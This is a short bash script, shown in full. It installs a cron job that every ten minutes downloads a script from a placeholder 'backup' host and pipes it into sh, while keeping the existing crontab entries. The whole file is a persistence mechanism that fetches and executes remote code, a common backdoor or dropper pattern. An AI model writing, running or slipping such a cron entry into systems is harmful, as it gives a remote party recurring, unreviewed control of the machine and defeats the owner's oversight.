#!/bin/bash
(crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsSL https://backup.example.invalid/b.sh | sh') | crontab -
